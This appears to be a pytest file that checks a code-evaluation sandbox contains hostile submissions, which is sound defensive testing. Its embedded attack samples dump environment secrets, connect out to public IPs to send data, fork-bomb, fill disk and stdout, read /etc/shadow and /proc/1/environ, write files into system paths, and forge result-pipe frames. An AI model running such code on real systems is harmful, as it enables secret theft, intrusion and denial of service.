"""Hostile submissions are contained, reported with a clear error, and leave the host untouched.

Each one does its damage in ``build_model`` and then raises with a report of what it managed,
so the test reads the outcome from inside as well as checking the host from outside.
"""

from __future__ import annotations

import contextlib
import os
import re
import socket
import threading
import uuid
from pathlib import Path

from tests.evaluation.engine.conftest import uids_in_use

REPO = Path(__file__).resolve().parents[3]

REPORT = """
def build_model(vocab_size, block_size, config):
    raise RuntimeError("REPORT " + repr(attack(config)))
"""


def hostile(attack: str) -> str:
    return attack + REPORT


def test_environment_holds_no_platform_secrets(run, tiny_spec, make_submission, monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_supersecret")
    monkeypatch.setenv("DATABASE_URL", "postgres://u:pw@db/crucible")
    monkeypatch.setenv("DJANGO_SECRET_KEY", "not-for-submissions")
    attack = "def attack(config):\n    return sorted(os.environ.items())\n"
    result = run(tiny_spec(), make_submission(hostile(attack)))
    assert result["status"] == "failed" and "REPORT" in result["error"]
    for secret in ("GITHUB_TOKEN", "ghp_supersecret", "DATABASE_URL", "DJANGO_SECRET_KEY"):
        assert secret not in result["error"] and secret not in result["log_tail"]
    assert "'PATH'" in result["error"]


def test_no_network(run, tiny_spec, make_submission):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    port = server.getsockname()[1]
    accepted: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError):
                accepted.append(server.accept())

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    attack = f"""
def attack(config):
    out = []
    for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 443), ("8.8.8.8", 53)):
        try:
            socket.create_connection((host, port), timeout=2).sendall(b"stolen")
            out.append(("CONNECTED", host))
        except OSError as exc:
            out.append(("blocked", host, exc.errno))
    return out
"""
    try:
        result = run(tiny_spec(), make_submission(hostile(attack)))
    finally:
        stop.set()
        thread.join()
        server.close()
    assert result["status"] == "failed" and "REPORT" in result["error"]
    assert "CONNECTED" not in result["error"]
    assert result["error"].count("'blocked'") == 3
    assert accepted == []


def test_fork_bomb_is_contained_and_cleaned_up(run, tiny_spec, make_submission):
    attack = """
def attack(config):
    print("UID", os.getuid(), flush=True)
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
    spec = tiny_spec(train_wall_s=3.0, startup_grace_s=5.0)
    result = run(spec, make_submission(hostile(attack)))
    assert result["status"] == "failed"
    assert "exceeded the wall-clock limit of 8 s" in result["error"]
    bomb_uid = int(re.search(r"UID (\d+)", result["log_tail"]).group(1))
    assert bomb_uid not in uids_in_use()  # the pass's own uid: every process of it is gone


def test_writing_gigabytes_to_disk_is_capped(run, tiny_spec, make_submission):
    attack = """
def attack(config):
    out = []
    block = b"x" * (1 << 20)
    for path in ("/tmp/fill", "fill2", "/job/fill", "/usr/fill"):
        written = 0
        try:
            with open(path, "wb") as handle:
                for _ in range(4096):  # 4 GiB
                    handle.write(block)
                    written += 1
        except OSError as exc:
            out.append((path, written, exc.strerror))
        else:
            out.append((path, written, "WROTE ALL"))
    return out
"""
    result = run(tiny_spec(scratch_bytes=32 << 20), make_submission(hostile(attack)))
    assert result["status"] == "failed" and "REPORT" in result["error"]
    assert "WROTE ALL" not in result["error"]
    assert "No space left on device" in result["error"] or "File too large" in result["error"]
    assert "Read-only file system" in result["error"]


def test_printing_gigabytes_is_cut_off(run, tiny_spec, make_submission):
    attack = """
def attack(config):
    line = "spam " * 20000
    while True:
        print(line)
"""
    result = run(tiny_spec(), make_submission(hostile(attack)))
    assert result["status"] == "failed"
    assert "printed more than 1 MiB to stdout/stderr" in result["error"]
    assert len(result["log_tail"]) <= 4000


def test_infinite_loop_in_build_model(run, tiny_spec, make_submission):
    attack = "def attack(config):\n    while True:\n        pass\n"
    result = run(tiny_spec(train_wall_s=1.0, startup_grace_s=3.0), make_submission(hostile(attack)))
    assert result["status"] == "failed"
    assert "exceeded the wall-clock limit of 4 s" in result["error"]


def test_corpus_and_platform_source_are_invisible(run, tiny_spec, make_submission):
    targets = [
        str(REPO / "evaluation/engine/corpus/shakespeare.txt.gz"),
        str(REPO / "evaluation/engine/runner.py"),
        str(REPO / "evaluation/engine/data.py"),
        str(REPO / "manage.py"),
        "/root/.bash_history",
        "/etc/shadow",
        "/proc/1/environ",
    ]
    attack = f"""
def attack(config):
    out = []
    for path in {targets!r}:
        try:
            with open(path, "rb") as handle:
                out.append(("STOLE", path, len(handle.read())))
        except OSError as exc:
            out.append(("blocked", path, exc.strerror))
    listing = []
    for folder in ({str(REPO)!r}, {str(REPO / "evaluation")!r}, "/work", "/root", "/home"):
        try:
            listing.append((folder, sorted(os.listdir(folder))))
        except OSError as exc:
            listing.append((folder, exc.strerror))
    return out, listing
"""
    result = run(tiny_spec(), make_submission(hostile(attack)))
    assert result["status"] == "failed" and "REPORT" in result["error"]
    assert "STOLE" not in result["error"]
    assert "shakespeare" not in result["error"].replace(targets[0], "")
    assert "manage.py" not in result["error"].replace(targets[3], "")


def test_writes_outside_the_work_directory_do_not_reach_the_host(run, tiny_spec, make_submission):
    marker = f"crucible-pwned-{uuid.uuid4().hex}"
    places = [
        str(REPO / marker),
        str(REPO / "evaluation/engine" / marker),
        f"/tmp/{marker}",
        f"/root/{marker}",
        f"/etc/{marker}",
    ]
    attack = f"""
def attack(config):
    out = []
    for path in {places!r}:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                handle.write("pwned")
            out.append(("wrote", path))
        except OSError as exc:
            out.append(("blocked", path, exc.strerror))
    return out
"""
    result = run(tiny_spec(), make_submission(hostile(attack)))
    assert result["status"] == "failed" and "REPORT" in result["error"]
    for place in places:
        assert not os.path.exists(place), place


def test_forged_result_frames_are_refused(run, tiny_spec, make_submission):
    """Submission code shares the trainer's process and can write to its result pipe: a forged
    oversized frame must not make the harness allocate it, nor crash it."""
    attack = """
import struct
def attack(config):
    fd = __import__("__main__").MSG_FD
    os.write(fd, b"J" + struct.pack("<Q", 1 << 40))
    return "forged"
"""
    result = run(tiny_spec(), make_submission(hostile(attack)))
    assert result["status"] == "failed"
    assert "malformed frame" in result["error"]
